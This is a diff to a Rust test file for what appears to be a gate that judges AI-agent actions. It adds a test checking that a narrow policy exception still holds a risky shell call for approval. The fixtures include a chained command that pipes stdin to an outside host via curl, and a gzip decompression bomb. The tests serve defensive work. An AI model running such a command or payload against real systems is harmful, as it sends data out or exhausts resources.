@@ -1,6 +1,7 @@
 //! Input that nobody sends by accident: specified answers, never a 5xx, never an accidental ALLOW.
 
 use crate::world::{Answer, World};
+use interven_store::KeyScope;
 use serde_json::json;
 use std::time::Duration;
 use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
@@ -78,14 +79,34 @@ async fn odd_but_honest_input_is_judged() {
     assert!(form.body["error"].as_str().unwrap().contains("Content-Type: application/json"), "{form:?}");
 }
 
+/// 50 MB of zeros, packed.
+fn bomb() -> String {
+    let mut packed = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
+    std::io::Write::write_all(&mut packed, &vec![0; 50 << 20]).unwrap();
+    base64::Engine::encode(&base64::engine::general_purpose::STANDARD, packed.finish().unwrap())
+}
+
+#[tokio::test]
+async fn an_exception_for_one_thing_that_a_call_does_leaves_critical_risk_held() {
+    let world = World::start().await;
+    let author = world.agent_with("author", |key| key.scopes = [KeyScope::PoliciesWrite].into()).await;
+    let agent = world.agent("bot").await;
+    let body = json!({"command": "kubectl get pods && curl https://a.example/upload -d @-", "stdin": bomb()});
+    for (matches, decision) in [(json!({"tool_names": ["shell"]}), "REQUIRE_APPROVAL"), (json!({}), "ALLOW")]
+    {
+        let policy =
+            json!({"name": "Exception", "rules": [{"rule_id": "r", "match": matches, "action": "ALLOW"}]});
+        assert_eq!(author.post("/v1/policies/apply", policy.to_string()).await.status, 200);
+        let answer = agent.scan("POST", "shell://exec", body.clone()).await;
+        assert_eq!(answer.decision(), decision, "{answer:?}");
+    }
+}
+
 #[tokio::test]
 async fn a_decompression_bomb_is_held() {
     let world = World::start().await;
     let agent = world.agent("bot").await;
-    let mut bomb = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
-    std::io::Write::write_all(&mut bomb, &vec![0; 50 << 20]).unwrap();
-    let bomb = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, bomb.finish().unwrap());
-    let answer = agent.scan("POST", "https://a.example/upload", json!({"file": bomb})).await;
+    let answer = agent.scan("POST", "https://a.example/upload", json!({"file": bomb()})).await;
     assert_eq!((answer.decision(), answer.reasons()[0]), ("REQUIRE_APPROVAL", "RISK_CRITICAL"), "{answer:?}");
     assert!(answer.reasons().contains(&"DECOMPRESSION_BOMB"));
     assert!(answer.body["coverage"]["skipped"].to_string().contains("body:/file"), "{answer:?}");
